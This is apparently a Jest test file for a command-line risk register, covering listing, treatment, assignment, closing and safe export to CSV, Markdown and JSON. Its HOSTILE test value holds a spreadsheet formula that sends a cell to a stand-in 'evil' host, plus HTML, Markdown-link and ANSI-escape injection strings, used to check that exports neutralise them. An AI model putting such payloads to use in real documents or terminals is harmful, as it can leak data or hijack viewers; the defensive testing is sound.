/** The risk register by commands, on a home that took the sample in. Texts that people give are hostile here. */
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';

import { SAMPLE } from '../../lib/cli/sample/sample.ts';
import type { Risk } from '../../lib/core/risks/risk.ts';
import { run } from '../support/running-home.ts';
import { type TemporaryFolder, temporaryFolder } from '../support/temporary-folder.ts';

const START = Date.parse(SAMPLE.date) + 86_400_000;
const HOSTILE = '=HYPERLINK("http://evil/?"&A1) | <img src=x> [a](http://evil) `rm`';

let folder: TemporaryFolder;
let now = START;

beforeAll(async () => {
  folder = await temporaryFolder();
  await ask('up', '--sample', '--once');
  now += 60_000;
});

afterAll(async () => {
  await folder.remove();
});

const ask = (...argv: readonly string[]) =>
  run([...argv, '--data', join(folder.path, 'home')], { now: () => new Date(now) });

async function json<T>(...argv: readonly string[]): Promise<T> {
  const { code, stdout, stderr } = await ask(...argv, '--json');
  if (code !== 0) throw new Error(stderr);
  return JSON.parse(stdout) as T;
}

async function add(title: string): Promise<Risk> {
  const what = ['--asset', 'repository:team/x', '--title', title, '--severity', 'high', '--stage', 'production'];
  return await json<Risk>('risk', 'add', ...what, '--as', 'owner');
}

describe('the risk register by commands', () => {
  it('holds each vulnerability of the sample once, the greatest first, and says where it is', async () => {
    const risks = await json<readonly Risk[]>('risk', 'list');
    expect(risks).toHaveLength(15);
    const scores = risks.map((risk) => risk.scores.inherent);
    expect(scores).toEqual([...scores].sort((a, b) => b - a));
    expect((await ask('risk', 'list')).stdout).toContain('15 risks');

    const { stdout } = await ask('risk', 'show', risks[0]?.id ?? '');
    expect(stdout).toMatch(/^RISK-\S+ {2}open/u);
    expect(stdout).toContain('in laptop/local/embedded/sample/debian@sha256:');
    expect((await ask('risk', 'history', risks[0]?.id ?? '')).stdout).toMatch(/opened {2}by Cavendish\n$/u);
  });

  it('pages and filters', async () => {
    const first = await json<{ rows: readonly Risk[]; next: string }>('risk', 'list', '--limit', '10');
    const rest = await json<{ rows: readonly Risk[] }>('risk', 'list', '--limit', '10', '--after', first.next);
    expect(new Set([...first.rows, ...rest.rows].map(({ id }) => id)).size).toBe(15);
    expect(await json('risk', 'list', '--stage', 'testing')).toEqual([]);
    expect(await json('risk', 'list', '--owner', 'nobody')).toEqual([]);
  });

  it('treats, assigns and closes with who did it and why, and tells what it was before', async () => {
    const { id } = await add('Session ids are guessable');
    const before = new Date(now).toISOString();
    now += 60_000;
    await ask('risk', 'treat', id, 'mitigate', '--due', '2026-12-01', '--why', 'new library', '--as', 'owner');
    await ask('risk', 'assign', id, 'Ada', '--as', 'owner');
    const filters = ['--treatment', 'mitigate', '--owner', 'Ada', '--due', '2027-01-01'];
    expect(await json('risk', 'list', ...filters)).toMatchObject([
      { id, treatment: { due: '2026-12-02T00:00:00.000Z' } },
    ]);
    expect(await json('risk', 'list', ...filters, '--at', before)).toEqual([]);
    now += 30 * 86_400_000;
    expect((await ask('risk', 'list', ...filters)).stdout).toContain('(late)');
    await ask('risk', 'close', id, '--why', 'fixed in 2.0', '--evidence', 'a'.repeat(64), '--as', 'owner');
    const { stdout } = await ask('risk', 'history', id);
    expect(stdout).toContain('entered  by Olive Owner (laptop:owner)');
    expect(stdout).toContain('treated  by Olive Owner (laptop:owner): new library');
    expect(stdout).toContain('closed  by Olive Owner (laptop:owner): fixed in 2.0');
  });

  it.each([
    ['closing what is found', (id: string) => ['risk', 'close', id, '--why', 'x', '--as', 'owner'], 'and by nobody'],
    [
      'a mitigation without an end',
      (id: string) => ['risk', 'treat', id, 'mitigate', '--why', 'x', '--as', 'owner'],
      'needs one',
    ],
    [
      'an acceptance without an exception',
      (id: string) => ['risk', 'treat', id, 'accept', '--why', 'x', '--as', 'owner'],
      'names the one',
    ],
    [
      'an exception that is not there',
      (id: string) => ['risk', 'treat', id, 'accept', '--exception', 'EX-1', '--why', 'x', '--as', 'owner'],
      'not there',
    ],
    [
      'a change by nobody whom the appetite names',
      (id: string) => ['risk', 'assign', id, '--as', 'mallory'],
      'may only request',
    ],
  ])('refuses %s', async (_, argvOf, why) => {
    const [risk] = await json<readonly Risk[]>('risk', 'list');
    expect(await ask(...argvOf(risk?.id ?? ''))).toMatchObject({
      code: 70,
      stderr: expect.stringContaining(why) as unknown,
    });
  });

  it('exports what no spreadsheet, viewer or terminal obeys', async () => {
    for (const title of [HOSTILE, '@SUM(A1)', '+1', '-1']) await add(title);
    expect(
      (
        await ask(
          'risk',
          'add',
          '--asset',
          'repository:x',
          '--title',
          'a\u001b[2Jb',
          '--severity',
          'low',
          '--stage',
          'testing',
          '--as',
          'owner',
        )
      ).stderr,
    ).toContain('control characters');

    const csv = (await ask('register', 'export', '--format', 'csv')).stdout;
    expect(csv).not.toMatch(/(?:^|,|\n)"?[=+@-]/u);
    expect(csv.split('\r\n')[0]).toMatch(/^id,kind,asset,/u);
    const markdown = (await ask('register', 'export', '--format', 'md')).stdout;
    expect(markdown).not.toMatch(/<img|\]\(|http:\/\/|[^\\]`/u);
    const columns = markdown
      .split('\n')
      .filter((line) => line.startsWith('|'))
      .map((line) => line.split(/(?<!\\)\|/u).length);
    expect(new Set(columns).size).toBe(1);
  });

  it('exports the register as of any instant', async () => {
    const then = new Date(START + 1000).toISOString();
    const parsed = JSON.parse((await ask('register', 'export', '--format', 'json', '--at', then)).stdout) as {
      at: string;
      risks: readonly Risk[];
    };
    expect(parsed.at).toBe(then);
    expect(parsed.risks).toHaveLength(15);
    const before = (await ask('register', 'export', '--format', 'json', '--at', '2020-01-01')).stdout;
    expect(JSON.parse(before)).toEqual({ at: '2020-01-01T00:00:00.000Z', risks: [] });
  });
});
